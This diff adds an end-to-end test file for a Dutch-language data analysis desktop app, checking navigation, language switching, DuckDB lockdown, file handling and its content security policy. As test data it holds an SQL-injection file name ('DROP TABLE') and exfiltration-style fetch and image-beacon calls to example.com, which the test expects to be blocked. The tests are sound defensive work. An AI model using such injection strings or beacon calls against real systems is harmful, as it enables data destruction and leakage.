@@ -1,0 +1,113 @@
+// End to end: the built renderer in headless Chromium, talking to the real main-process handlers.
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { tempFolder } from '../main/support/temp-folder';
+import { launchApp, screenshotFolder, type AppUnderTest } from './support/bridge';
+import { findChromium, NO_CHROMIUM_MESSAGE } from './support/chromium';
+
+const chromiumFound = Boolean(findChromium());
+if (!chromiumFound) console.warn(NO_CHROMIUM_MESSAGE);
+
+const PAGES = [
+  ['data', 'Data', 'Data'],
+  ['populatie', 'Populatie', 'Population'],
+  ['vergelijking', 'Vergelijking', 'Comparison'],
+  ['clusters', 'Clusters', 'Clusters'],
+  ['profielen', 'Profielen', 'Profiles'],
+  ['export', 'Export', 'Export'],
+] as const;
+
+describe.skipIf(!chromiumFound)('the app shell in Chromium', () => {
+  let app: AppUnderTest;
+  let hostileCsv: string;
+
+  beforeAll(async () => {
+    const folder = await tempFolder();
+    hostileCsv = join(folder, `clients'; DROP TABLE x; --.csv`);
+    await writeFile(hostileCsv, 'RINPERSOONS,RINPERSOON,"start""datum"\nR,000000001,20170101\nR,000000002,20170301\nR,000000003,\n');
+    app = await launchApp({ pickFiles: async () => [hostileCsv] });
+    console.info(`Screenshots: ${screenshotFolder}`);
+  });
+  afterAll(() => app?.close());
+
+  it('shows the six pages in Dutch, in order, with an empty state each', async () => {
+    const { page } = app;
+    await expect.poll(() => page.locator('html').getAttribute('lang')).toBe('nl');
+    for (const [id, dutch] of PAGES) {
+      const button = page.getByTestId(`nav-${id}`);
+      expect((await button.textContent())?.trim()).toBe(dutch);
+      await button.click();
+      await expect.poll(() => button.getAttribute('aria-current')).toBe('page');
+      const body = page.getByTestId(`page-${id}`);
+      await body.waitFor();
+      expect((await body.textContent())!.length).toBeGreaterThan(40);
+      await app.screenshot(`nl-${id}`);
+    }
+  });
+
+  it('shows the locked engine settings read from the real DuckDB', async () => {
+    const status = app.page.getByTestId('engine-status');
+    await expect.poll(() => status.textContent()).toMatch(/DuckDB v\d+\.\d+/);
+    const text = (await status.textContent())!;
+    expect(text).toMatch(/vergrendeld/i);
+    expect(text).toMatch(/Externe toegang: uit/i);
+    expect(app.calls).toContain('groepsbeeld:engine-security');
+  });
+
+  it('switches to English and keeps the choice after a reload', async () => {
+    const { page } = app;
+    await page.getByTestId('lang-en').click();
+    await expect.poll(() => page.locator('html').getAttribute('lang')).toBe('en');
+    for (const [id, , english] of PAGES) expect((await page.getByTestId(`nav-${id}`).textContent())?.trim()).toBe(english);
+    await app.screenshot('en-export');
+    await page.reload();
+    await expect.poll(() => page.getByTestId('nav-populatie').textContent()).toBe('Population');
+    await page.getByTestId('lang-nl').click();
+    await expect.poll(() => page.getByTestId('nav-populatie').textContent()).toBe('Populatie');
+  });
+
+  it('opens a file through the main process and summarises a column with a hostile name', async () => {
+    const { page } = app;
+    await page.getByTestId('nav-data').click();
+    await page.getByTestId('open-files').click();
+    const list = page.getByTestId('file-list');
+    await expect.poll(() => list.textContent()).toContain(`clients'; DROP TABLE x; --.csv`);
+    expect(await list.innerText()).toMatch(/Rijen\s+3\s/);
+    await page.getByRole('button', { name: 'start"datum' }).click();
+    const summary = page.getByTestId('column-summary');
+    await expect.poll(() => summary.textContent()).toMatch(/start"datum/);
+    await app.screenshot('nl-data-file');
+    const engineView = await app.engine.columnSummary((await app.engine.listFiles())[0]!.id, 'start"datum');
+    expect(engineView).toMatchObject({ rowCount: 3, missing: 1, distinct: 2 });
+    expect(await summary.innerText()).toMatch(/Ontbrekend\s+1\s/);
+  });
+
+  it('made no request outside its own bundle, and its CSP blocks any attempt', async () => {
+    const { page } = app;
+    expect(app.foreignRequests).toEqual([]);
+    const attempt = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
+      const fetched = await fetch('https://example.com/collect?d=1').then(
+        () => 'sent',
+        () => 'blocked',
+      );
+      const image = new Image();
+      image.src = 'https://example.com/pixel.gif?d=1';
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      return { fetched, violations };
+    });
+    expect(attempt.fetched).toBe('blocked');
+    expect(attempt.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
+    expect(app.foreignRequests).toEqual([]);
+  });
+
+  it('is keyboard usable: Tab reaches the navigation and Enter switches pages', async () => {
+    const { page } = app;
+    await page.getByTestId('nav-data').focus();
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('Enter');
+    await expect.poll(() => page.getByTestId('nav-populatie').getAttribute('aria-current')).toBe('page');
+  });
+});
